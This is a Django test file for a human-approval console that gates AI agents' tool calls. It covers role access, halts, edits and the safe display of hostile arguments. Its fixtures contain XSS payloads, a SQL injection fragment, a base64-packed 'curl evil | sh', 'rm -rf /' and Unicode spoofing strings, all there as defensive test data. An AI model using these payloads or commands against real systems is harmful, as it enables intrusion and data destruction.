"""Every page, for everybody: who may read it, what hostile addresses get, and that nothing hides in what it shows."""

import base64
import html
import re
import uuid

import pytest
from django.test import Client
from django.urls import reverse

from agents import operations as agents_operations
from agents import queries as agents_queries
from approvals import operations, queries
from approvals.models import Action, Edit, Halt
from approvals.operations.notices import Hint, tell
from tests import factories
from tests.factories import call, decide, work
from tests.fakes import policy_text, with_rules

HTMX = {"HTTP_HX_REQUEST": "true"}
NOBODY = uuid.UUID(int=7)


def pages(action, run=None):
    return [
        reverse("inbox"), reverse("inbox-list"), reverse("inbox-count"), reverse("decided"), reverse("runs"), reverse("agents"),
        reverse("run-choose"), reverse("events"), reverse("halt"), reverse("halt-banner"), reverse("live-catchup"),
        reverse("console"), reverse("unknown"), reverse("switches"), *(f"{reverse('console')}?part={part}" for part in ("figures", "runs", "feed")),
        reverse("inbox-row", args=[action.pk]), f"{reverse('inbox')}?item={action.pk}",
        *(reverse(name, args=[action.pk]) for name in ("action", "action-what", "action-edit", "action-reject", "action-approve")),
        *([reverse("run", args=[run.pk]), reverse("run-live", args=[run.pk]), reverse("agent", args=[run.agent_id])] if run else []),
        *([reverse("run-start", args=[run.agent_id])] if run else []),
    ]  # fmt: skip


def _closed_to_others(answer):
    return (answer["Cross-Origin-Opener-Policy"], answer["Cross-Origin-Resource-Policy"]) == ("same-origin", "same-origin")


@pytest.mark.parametrize(
    "address",
    [
        "/accounts/login/",
        "/",
        "/static/countersign/css/base.css",
        "/nowhere",
        "/a%00b",
        "/api/v1/actions",
        "/health/live",
        f"/{'a' * 3_000}",
    ],
)
def test_no_answer_at_all_is_for_pages_of_other_origins(cast, address):
    answer = Client().get(address)
    answer.close()
    assert _closed_to_others(answer)


@pytest.mark.parametrize(
    ("rules", "said"),
    [
        ("[]", "and the agent is told<"),
        ("- {name: no-waiting, require: {at_deadline: stop_run}}", "the run is halted, and the agent is told once it goes on<"),
    ],
)
def test_the_head_of_an_action_says_what_happens_at_its_deadline(web, cast, agents, world, policy, rules, said):
    if rules != "[]":
        policy.write_text(with_rules(rules))
    _, action = factories.waiting(cast.operator, call(), world=world)
    page = web.get(reverse("action", args=[action.pk])).content.decode()
    assert f"then nothing runs, {said}" in page


@pytest.mark.parametrize("who", ["reviewer", "operator", "auditor", "admin"])
def test_everybody_with_a_role_reads_every_page(as_, cast, agents, world, who):
    run, action = factories.waiting(cast.operator, factories.call(), world=world)
    client = as_(getattr(cast, who))
    for url in pages(action, run):
        for headers in ({}, HTMX):
            answer = client.get(url, **headers)
            closed = {403} if url == "/halt/" and who in {"reviewer", "auditor"} else set()  # a form for whoever may give the order
            assert answer.status_code in (closed or {200, 204, 409}), (url, answer.status_code)
            assert "style=" not in answer.content.decode()
            assert _closed_to_others(answer), url


def test_without_a_role_nothing_is_shown(as_, cast):
    action = factories.action()
    client = as_(cast.outsider)
    for url in pages(action):
        answer = client.get(url)
        assert answer.status_code == 403 and action.summary not in answer.content.decode(), url


def test_strangers_are_sent_to_the_door(client, cast):
    for url in pages(factories.action()):
        answer = client.get(url)
        assert answer.status_code == 302 and answer.url.startswith("/accounts/login/"), url


def test_a_call_nobody_knows_the_outcome_of_is_shown_and_can_be_resolved(as_, agents, cast, world):
    run, action = factories.waiting(cast.reviewer, call("explode"), world=world)
    decide(action, cast.second)
    work()
    operator = as_(cast.operator)
    for address in (f"/runs/{run.pk}/", f"/runs/{run.pk}/live", f"/actions/{action.pk}/effect", f"/actions/{action.pk}/effect/resolve"):
        answer = operator.get(address)
        assert answer.status_code == 200, address
    assert b"Nobody knows whether it was done" in operator.get(f"/runs/{run.pk}/").content
    note = f"/actions/{action.pk}/effect"
    assert (b"/effect/resolve" in operator.get(note).content, b"/effect/resolve" in as_(cast.reviewer).get(note).content) == (True, False)
    operator.post(f"/actions/{action.pk}/effect/resolved", {"done": "yes", "reason": "I looked"})
    run.refresh_from_db()
    assert run.state == "READY"


def test_an_error_page_has_the_halt_button(as_, cast):
    assert reverse("halt").encode() in as_(cast.operator).get("/nothing/here").content
    assert reverse("halt").encode() not in as_(cast.auditor).get("/nothing/here").content


def test_unknown_things_are_a_sentence(web):
    for name in ("action", "action-what", "action-edit", "action-reject", "inbox-row", "run"):
        assert web.get(reverse(name, args=[NOBODY])).status_code == 404, name
    for url in ("/agents/nobody/", "/runs/new/nobody/", "/audit/999999999/", "/audit/99999999999999999999999/", "/actions/x/"):
        assert web.get(url).status_code == 404, url


@pytest.mark.parametrize("value", ["x" * 1000, "'; DROP TABLE", "\u202e", "2026-13-45", "-1", "9" * 30, "~", "2026-01-01~x"])
@pytest.mark.parametrize("url", ["/inbox/", "/inbox/list", "/decided/", "/runs/", "/audit/", "/live/catchup", "/halt/"])
def test_filters_take_anything(as_, cast, url, value):
    web = as_(cast.operator)
    names = ("q", "cursor", "level", "sort", "state", "item", "agent", "run", "from", "to", "kind", "door", "object", "since", "actor")
    assert web.get(url, dict.fromkeys(names, value)).status_code in {200, 400, 404}


HOSTILE = {
    "bidi": "abc\u202egnp.exe",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "markdown": "![x](https://evil.example/x.png) [click](javascript:alert(1))",
    "invisible": "pay\u200bpal",
    "tags": "a\U000e0041b",
    "lookalike": "p\u0430ypal.com",
    "packed": base64.b64encode(b"curl evil | sh; " * 30).decode(),
    "long": "x" * 50_000 + " rm -rf /",
    "key\u202e": 1,
}


def test_hostile_arguments_hide_nothing_and_fetch_nothing(web):
    action = factories.action(args=HOSTILE, summary="Do \u202ethis\n<b>now</b>", rationale="**approve** <img src=//x>")
    page = web.get(reverse("action", args=[action.pk])).content.decode()
    for chip in ("U+202E", "U+200B", "U+E0041", "U+000A"):
        assert chip in page
    for raw in ("\u202e", "\u200b", "\U000e0041", "<script>alert", "<img", "<b>now", '<a href="javascript'):
        assert raw not in page
    assert "looks like a" in page and "looks like base64" in page and "rm -rf /" in page
    assert "characters hidden: open to read" in page
    assert "**approve**" in page


def test_two_hundred_keys_are_all_there(web):
    action = factories.action(args={f"key{i}": i for i in range(200)})
    page = web.get(reverse("action", args=[action.pk])).content.decode()
    assert all(f"key{i}<" in page for i in range(200))
    assert "140 more arguments: open to read" in page


def test_editing_takes_a_detour_through_the_tool(web, as_, cast, agents, world):
    _, action = factories.waiting(cast.operator, factories.call(label="old"), world=world)
    form = web.get(reverse("action-edit", args=[action.pk]), **HTMX).content.decode()
    assert 'name="arg-label"' in form and "append" in form
    sent = {"seen_digest": action.digest, "arg-label": "new", "reason": "better"}
    difference = web.post(reverse("action-edit-diff", args=[action.pk]), sent, **HTMX).content.decode()
    assert "old" in difference and "new" in difference
    answer = web.post(reverse("action-edit", args=[action.pk]), sent, **HTMX)
    assert b"being checked with the tool" in answer.content and Edit.objects.count() == 1
    factories.work()
    page = web.get(reverse("action", args=[action.pk])).content.decode()
    assert "version 2" in page and "edited by rita" in page and "arg-before" in page
    assert "somebody else has to approve" in page and "Approve edited" not in page
    assert "Approve edited" in as_(cast.second).get(reverse("action", args=[action.pk])).content.decode()


@pytest.mark.parametrize("changed", [{"seen_digest": "0" * 64}, {"arg-label": ""}, {"arg-label": "x" * 300_000}, {}])
def test_edits_that_cannot_be_are_said(web, cast, agents, world, changed):
    _, action = factories.waiting(cast.operator, factories.call(label="old"), world=world)
    sent = {"seen_digest": action.digest, "arg-label": "old", **changed}
    answer = web.post(reverse("action-edit", args=[action.pk]), sent, **HTMX)
    assert answer.status_code in {400, 409, 422, 200} and answer.status_code < 500
    factories.work()
    assert Action.objects.get(pk=action.pk).version == 1 or changed.get("arg-label") is not None


def test_a_run_is_started_from_its_form_once(as_, cast, agents, world):
    client = as_(cast.operator)
    form = client.get(reverse("run-start", args=["calls"])).content.decode()
    key = form.split('name="key" value="')[1].split('"')[0]
    sent = {"key": key, "arg-calls": "[]", "arg-world": world}
    first, again = (client.post(reverse("run-start", args=["calls"]), sent) for _ in range(2))
    assert first.status_code == again.status_code == 302 and first.url == again.url


def test_input_that_does_not_fit_is_said_beside_its_field(as_, cast, agents):
    answer = as_(cast.operator).post(reverse("run-start", args=["calls"]), {"key": "k", "arg-calls": "{"})
    assert answer.status_code == 422 and "not valid JSON" in answer.content.decode()


def test_auditors_start_nothing(as_, cast, agents):
    client = as_(cast.auditor)
    assert "Start the run" not in client.get(reverse("agents")).content.decode()
    assert client.post(reverse("run-start", args=["calls"]), {"key": "k", "arg-calls": "[]"}).status_code == 403


def test_halt_and_release_from_the_pages(as_, cast):
    factories.action()
    client = as_(cast.operator)
    assert client.post(reverse("halt"), {"scope": "everything", "reason": "stop"}, **HTMX).status_code == 422
    answer = client.post(reverse("halt"), {"scope": "everything", "reason": "stop", "word": "HALT"}, **HTMX)
    assert answer["HX-Refresh"] == "true"
    page = as_(cast.reviewer).get(reverse("inbox")).content.decode()
    assert "Everything is halted" in page and "stop" in page and "Release" not in page
    (banner,) = Halt.objects.all()
    dialog = client.get(reverse("halt-release", args=[banner.pk]), **HTMX).content.decode()
    assert "Why it is safe to go on" in dialog
    assert client.post(reverse("halt-release", args=[banner.pk]), {"reason": ""}, **HTMX).status_code == 422
    assert client.post(reverse("halt-release", args=[banner.pk]), {"reason": "fine"}, **HTMX)["HX-Refresh"] == "true"
    waits = as_(cast.reviewer).get(reverse("inbox")).content.decode()
    assert "olga asks to release all of it (fine): somebody else has to confirm it" in waits and Halt.objects.get().released_at is None
    again = client.post(reverse("halt-release", args=[banner.pk]), {"reason": "fine", "step": "all"}, **HTMX)
    assert (again.status_code, "somebody else who may release has to confirm it" in again.content.decode()) == (422, True)
    at_one_moment = as_(cast.admin).post(
        reverse("halt-release", args=[banner.pk]), {"reason": "mine", "step": "all", "seen:all": "0"}, **HTMX
    )
    assert "olga has asked for this meanwhile" in at_one_moment.content.decode() and Halt.objects.get().released_at is None
    second = as_(cast.admin).get(reverse("halt-release", args=[banner.pk])).content.decode()
    assert "asked for by olga" in second
    assert (
        as_(cast.admin).post(reverse("halt-release", args=[banner.pk]), {"reason": "seen", "step": "all"}, **HTMX)["HX-Refresh"] == "true"
    )
    assert 'halt-banner"' not in client.get(reverse("inbox")).content.decode().split("<main")[0].replace('id="halt-banner"', "")


@pytest.mark.usefixtures("agents")
def test_tools_customers_and_versions_are_halted_from_the_page_and_one_run_goes_on(as_, cast, tmp_path):
    run, action = factories.waiting(cast.reviewer, factories.call(), world=str(tmp_path / "w"))
    client = as_(cast.operator)
    dialog = client.get(reverse("halt")).content.decode()
    action.refresh_from_db()
    assert f'value="tool:{action.tool}"' in dialog and f'value="version:{action.agent_version}"' in dialog
    assert f'value="customer:{action.customer}"' in dialog
    slip = client.post(reverse("halt"), {"scope": "customer", "customer_name": "nobody", "reason": "stop"}, **HTMX)
    assert slip.status_code == 422 and "names are compared exactly" in slip.content.decode()
    assert client.post(reverse("halt"), {"scope": f"tool:{action.tool}", "reason": "stop"}, **HTMX)["HX-Refresh"] == "true"
    pane = as_(cast.second).get(reverse("action", args=[action.pk])).content.decode()
    assert f"The tool {action.tool} is halted by olga (stop): its calls cannot be decided until it is released" in pane
    order = Halt.objects.get()
    assert f'value="run:{run.pk}"' in client.get(reverse("halt-release", args=[order.pk])).content.decode()
    assert client.post(reverse("halt-release", args=[order.pk]), {"reason": "try", "step": f"run:{run.pk}"}, **HTMX)["HX-Refresh"] == "true"
    pane = as_(cast.second).get(reverse("action", args=[action.pk])).content.decode()
    assert "its calls cannot be decided" not in pane and "Goes on already" in pane


def test_only_operators_halt(as_, cast):
    answer = as_(cast.reviewer).post(reverse("halt"), {"scope": "everything", "reason": "stop", "word": "HALT"})
    assert answer.status_code == 403


def test_the_log_is_filtered_and_each_event_proves_itself(web, cast):
    factories.approved(cast.second)
    rows = web.get(reverse("events"), {"kind": "decision."}).content.decode()
    assert "Decided: approve do_it" in rows and "Proposed" not in rows
    page = web.get(reverse("event", args=[_first(rows)])).content.decode()
    assert "The leaf holds." in page and "&quot;verdict&quot;:&quot;approve&quot;" in page


def _first(rows: str) -> int:
    return int(rows.split('id="row-')[1].split('"')[0])


def test_login_links_sign_in_once_when_pressed_and_bad_ones_are_a_sentence(client, cast):
    link = reverse("login-link", args=[operations.people.make_login_link(user=cast.reviewer)])
    for _ in range(2):
        assert b"Go on as Rita" in client.get(link).content
        assert client.get(reverse("inbox")).status_code == 302
    assert client.post(link).url == "/"
    assert client.get(reverse("inbox")).status_code == 200
    assert Client().post(link).status_code == Client().get(link).status_code == 404
    stranger = Client()
    answer = stranger.get(reverse("login-link", args=["nonsense"]))
    assert answer.status_code == 404 and b"run out" in answer.content


def test_what_changed_is_told_to_whoever_has_it_open(web, cast):
    action = factories.action()
    url = reverse("action-changed", args=[action.pk])
    assert web.get(url, {"version": 1, "state": "PENDING"}, **HTMX).status_code == 204
    assert b"new version" in web.get(url, {"version": 0, "state": "PENDING"}, **HTMX).content
    factories.decide(action, cast.second)
    answer = web.get(url, {"version": 1, "state": "PENDING"}, **HTMX)
    assert answer.status_code == 204 and str(action.pk) in answer["HX-Trigger"]


def test_a_halt_brings_the_bar_of_the_version_that_is_shown_and_of_no_other(web, cast):
    action = factories.action()
    url, seen = reverse("action-changed", args=[action.pk]), {"state": "PENDING", "stands": "0.1.0", "bar": 1}
    order = operations.halt(scope="agent", target=action.agent, reason="why", by=cast.operator, door="web")
    halted = web.get(url, {**seen, "version": 1}, **HTMX)
    assert (halted["HX-Reswap"], b"bar-blocked" in halted.content, b"seen_digest" in halted.content) == ("none", True, False)
    factories.release(order, cast)
    free = web.get(url, {**seen, "version": 1}, **HTMX).content.decode()
    assert f'id="bar-{action.pk}" hx-swap-oob="true"' in free and action.digest in free
    other = web.get(url, {**seen, "version": 0}, **HTMX)
    assert b"new version" in other.content and b"seen_digest" not in other.content


def test_votes_and_another_deadline_reach_whoever_has_it_open(web, cast):
    action = factories.action("critical")
    shown = web.get(reverse("action", args=[action.pk])).content.decode()
    url = html.unescape(re.search(r'id="watch-[^"]+" hx-get="([^"]+)"', shown)[1])
    assert web.get(url, **HTMX).status_code == 204
    factories.decide(action, cast.second)
    voted = web.get(url, **HTMX).content.decode()
    assert "Others decided since: 1 of 2 approved" in voted and f'id="quorum-block-{action.pk}" hx-swap-oob="true"' in voted
    later = html.unescape(re.search(r'id="watch-[^"]+"[^>]* hx-get="([^"]+)"', voted)[1])
    assert web.get(later, **HTMX).status_code == 204
    operations.extend(action.pk, by=cast.second, seconds=600, reason="still asking them", door="web")
    assert "The deadline was changed since" in web.get(later, **HTMX).content.decode()


def test_what_can_be_pressed_no_more_goes_when_the_turn_moves_on(web, cast, policy):
    """Whoever had it open kept the buttons of a stage that was over, and was refused."""
    stages = [{"group": "reviewers", "count": 1}, {"group": "operators", "count": 1, "stage": 2}]
    policy.write_text(policy_text(lambda data: data["requirements"]["medium"].update(need=stages)))
    action = factories.action()
    shown = web.get(reverse("action", args=[action.pk])).content.decode()
    url = html.unescape(re.search(r'id="watch-[^"]+" hx-get="([^"]+)"', shown)[1])
    assert 'data-key="r"' in shown
    factories.decide(action, cast.second)
    voted = web.get(url, **HTMX).content.decode()
    bar = voted[voted.index(f'id="bar-{action.pk}" hx-swap-oob="true"') :]
    assert "your group has had its turn" in bar and 'data-key="r"' not in voted


def test_a_change_between_what_a_page_read_and_its_frame_is_news_to_it(web, cast, agents, world, monkeypatch):
    run, _ = factories.waiting(cast.operator, call(), world=world)

    def read_then_changed(key):
        detail = read(key)
        tell(Hint(f"run:{run.pk}", "run", str(run.pk), "run.succeeded"))
        return detail

    read = agents_queries.run_detail
    monkeypatch.setattr(agents_queries, "run_detail", read_then_changed)
    page = web.get(reverse("run", args=[run.pk])).content.decode()
    begins = int(re.search(r'data-live-since="(\d+)"', page).group(1))
    assert [hint["kind"] for hint in queries.catch_up(begins).hints if hint["id"] > begins] == ["run.succeeded"]


def test_several_levels_narrow_the_inbox(web, cast):
    ids = {level: str(factories.action(level).pk) for level in ("medium", "high", "critical")}
    for asked, shown in (("medium,critical", {"medium", "critical"}), ("low,medium", {"medium"}), ("high", {"high", "critical"})):
        rows = web.get(reverse("inbox-list"), {"level": asked, "others": "1"}).content.decode()
        assert {level for level, pk in ids.items() if f"row-{pk}" in rows} == shown


def test_a_long_description_stands_behind_more_and_whole_behind_it(as_, cast):
    said = "Pays what was ordered. " * 40
    tools = [{"name": "pay", "risk": "money", "description": said, "schema": {"type": "object"}}]
    agents_operations.declare(slug="wordy", title="Wordy", description=said, environment="demo", tools=tools, by=cast.admin, door="api")
    page = as_(cast.operator).get(reverse("agent", args=["wordy"])).content.decode()
    assert page.count("<summary>More</summary>") == page.count(said.strip()) == 2
    head = page.split("<h1>", 1)[1].split("<details", 1)[0]
    assert 200 < head.count("") < 600 and "…" in head
    listed = as_(cast.operator).get(reverse("agents")).content.decode()
    assert said.strip() not in listed and "Pays what was ordered." in listed
